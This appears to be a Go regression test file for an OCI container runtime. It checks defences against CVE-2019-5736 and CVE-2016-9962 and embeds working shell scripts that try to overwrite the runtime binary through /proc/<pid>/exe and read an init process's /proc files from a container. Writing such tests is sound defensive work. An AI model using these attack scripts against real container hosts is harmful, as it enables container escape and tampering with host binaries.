package security

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	specs "github.com/opencontainers/runtime-spec/specs-go"

	"github.com/oci-run/oci-run/tests/internal/testbundle"
)

// CVE-2019-5736 (runc < 1.0.0-rc6): the runtime's init ran the host's
// runtime binary; a container process that got the runtime to re-execute
// itself inside the container (a /bin/sh whose "#!" line is /proc/self/exe,
// or exec of /proc/self/exe) could open /proc/<pid>/exe of that process,
// wait for it to exit, then reopen the handle for writing and overwrite the
// host's binary. Also, while the init still held host resources, a process
// in its PID namespace could open its /proc files (CVE-2016-9962).

// privateRuntime gives the case its own copy of the runtime binary, so that
// an attack that succeeds only damages the copy (and the copy's hash, not
// the suite's binary, is what the case checks).
func (e *env) privateRuntime() (path, hash string) {
	e.t.Helper()
	dir := e.hostDir("rtbin")
	path = filepath.Join(dir, filepath.Base(runtimeBin))
	must(e.t, testbundle.CopyFile(runtimeBin, path, 0o755))
	h, err := fileHash(path)
	must(e.t, err)
	e.bin = path
	return path, h
}

// addLibsFor copies the shared libraries and loader of bin into the rootfs
// (at the same paths), as a real image with a libc would have them, so that
// the runtime binary can run inside the container.
func (e *env) addLibsFor(bin string) {
	e.t.Helper()
	out, err := hostOutput("ldd", bin)
	if err != nil {
		e.t.Logf("ldd %s: %v", bin, err)
		return // static
	}
	for _, line := range strings.Split(string(out), "\n") {
		for _, f := range strings.Fields(line) {
			if !strings.HasPrefix(f, "/") {
				continue
			}
			dst := filepath.Join(e.rootfs, f)
			must(e.t, os.MkdirAll(filepath.Dir(dst), 0o755))
			if _, err := os.Lstat(dst); err == nil {
				continue
			}
			must(e.t, testbundle.CopyFile(f, dst, 0o755))
		}
	}
}

// The attacker runs in the container and waits for a process whose exe is
// not busybox (the runtime, re-executed through /proc/self/exe by `exec`,
// blocked opening its --log fifo). It opens that exe read-only, tries to
// open it for writing at once, releases the runtime, waits for it to exit and
// tries again through the held fd. Every result goes to /out/result.
const exeAttacker = `
mkfifo /tmp/gate
echo ready > /out/ready
n=0
while [ $n -lt 1500 ]; do
  for p in /proc/[0-9]*; do
    [ "$p" = /proc/$$ ] && continue
    tr '\0' ' ' < $p/cmdline 2>/dev/null | grep -q -- '--log /tmp/gate' || continue
    l=$(readlink $p/exe 2>&1)
    echo "found $p exe=$l" >> /out/result
    if ( exec 3<"$p/exe" ) 2>>/out/log; then exec 3<"$p/exe"; echo "opened-ro" >> /out/result; fi
    if ( exec 4<>"$p/exe" ) 2>>/out/log; then echo "VULNERABLE-WRITE-WHILE-RUNNING" >> /out/result; fi
    cat /tmp/gate > /dev/null
    i=0; while [ -e $p ] && [ $i -lt 200 ]; do sleep 0.05; i=$((i+1)); done
    if ( exec 4<>/proc/self/fd/3; echo PWNED >&4 ) 2>>/out/log; then
      echo "VULNERABLE-WRITE-AFTER-EXIT" >> /out/result
    else
      echo "write-refused" >> /out/result
    fi
    echo done >> /out/result
    exec sleep 60
  done
  sleep 0.01
  n=$((n+1))
done
echo "not-found" >> /out/result
echo done >> /out/result
`

func TestCVE_2019_5736_OverwriteRuntimeThroughProcExe(t *testing.T) {
	t.Parallel()
	e := newEnv(t, "sh", "-c", exeAttacker)
	bin, hash := e.privateRuntime()
	e.addLibsFor(bin)
	e.spec.Mounts = append(e.spec.Mounts, specs.Mount{Destination: "/tmp", Type: "tmpfs", Source: "tmpfs"})
	out := e.outDir()
	e.writeConfig()
	mustOK(t, e.rt("run", "-d", "--bundle", e.bundle, e.id))
	if _, ok := waitFile(t, filepath.Join(out, "ready"), 10*time.Second); !ok {
		t.Fatalf("the attacker container never started")
	}
	// The runtime re-executes itself inside the container and blocks
	// opening its log, a fifo the attacker controls.
	r := e.rt("exec", "-d", e.id, "/proc/self/exe", "--log", "/tmp/gate", "state", "nothing")
	checkNoCrash(t, r)
	if r.code != 0 {
		t.Logf("exec of /proc/self/exe refused (the attack cannot start): %s", r)
		return
	}
	res, ok := "", false
	deadline := time.Now().Add(20 * time.Second)
	for time.Now().Before(deadline) {
		b, _ := os.ReadFile(filepath.Join(out, "result"))
		if res = string(b); strings.Contains(res, "done") {
			ok = true
			break
		}
		time.Sleep(50 * time.Millisecond)
	}
	log, _ := os.ReadFile(filepath.Join(out, "log"))
	if !ok {
		t.Errorf("the attack did not finish in time; result %q, log %q", res, log)
	}
	if strings.Contains(res, "VULNERABLE") {
		t.Errorf("VULNERABLE: a container process opened the runtime binary for writing: %q (log %q)", res, log)
	}
	if strings.Contains(res, "not-found") {
		t.Errorf("the re-executed runtime was never seen in the container: %q", res)
	}
	if h, err := fileHash(bin); err != nil || h != hash {
		t.Errorf("VULNERABLE: the runtime binary was overwritten from the container (sha256 %s -> %s, %v)", hash, h, err)
	}
	t.Logf("attack transcript: %q; errors: %q", res, log)
}

// A container created but not started: its init still runs the runtime's
// code. Another container in its PID namespace (root, without
// CAP_SYS_PTRACE) must not be able to open the init's exe, mem or environ,
// and the init's exe must not be the host binary.
func TestCVE_2019_5736_CreatedInitNotReachable(t *testing.T) {
	t.Parallel()
	e := newEnv(t, "sleep", "60")
	e.writeConfig()
	mustOK(t, e.rt("create", "--bundle", e.bundle, e.id))
	st, ok := e.readState(e.id)
	if !ok || st.Pid <= 0 {
		t.Fatalf("no pid for the created container")
	}

	link, err := os.Readlink(fmt.Sprintf("/proc/%d/exe", st.Pid))
	if err != nil {
		t.Fatalf("readlink the init's exe: %v", err)
	}
	if real, _ := filepath.EvalSymlinks(runtimeBin); link == runtimeBin || link == real {
		t.Errorf("VULNERABLE: /proc/%d/exe of the init is the host path %s", st.Pid, link)
	}

	// The prober: a second container in the init's PID namespace.
	probe := `for f in exe mem environ cwd root; do
  if ( exec 3</proc/1/$f ) 2>/dev/null; then echo "OPENED-$f"; fi
done
if readlink /proc/1/exe; then echo "READLINK-exe"; fi
for f in /proc/1/fd/*; do
  if readlink "$f" >/dev/null 2>&1; then echo "READLINK-$f"; fi
  if ( exec 3<"$f" ) 2>/dev/null; then echo "OPENED-$f"; fi
done
echo probed`
	e.spec.Process.Args = []string{"sh", "-c", probe}
	var ns []specs.LinuxNamespace
	for _, n := range e.spec.Linux.Namespaces {
		if n.Type == specs.PIDNamespace {
			n.Path = fmt.Sprintf("/proc/%d/ns/pid", st.Pid)
		}
		ns = append(ns, n)
	}
	e.spec.Linux.Namespaces = ns
	e.writeConfig()
	idB := e.newTrackedID()
	r := e.rt("run", "--bundle", e.bundle, idB)
	mustOK(t, r)
	if !strings.Contains(r.stdout, "probed") {
		t.Fatalf("the probe did not run: %s", r)
	}
	for _, w := range []string{"OPENED-", "READLINK-"} {
		if strings.Contains(r.stdout, w) {
			t.Errorf("VULNERABLE: a container process reached the created init's /proc files (init is dumpable): %s", r.stdout)
			break
		}
	}
}
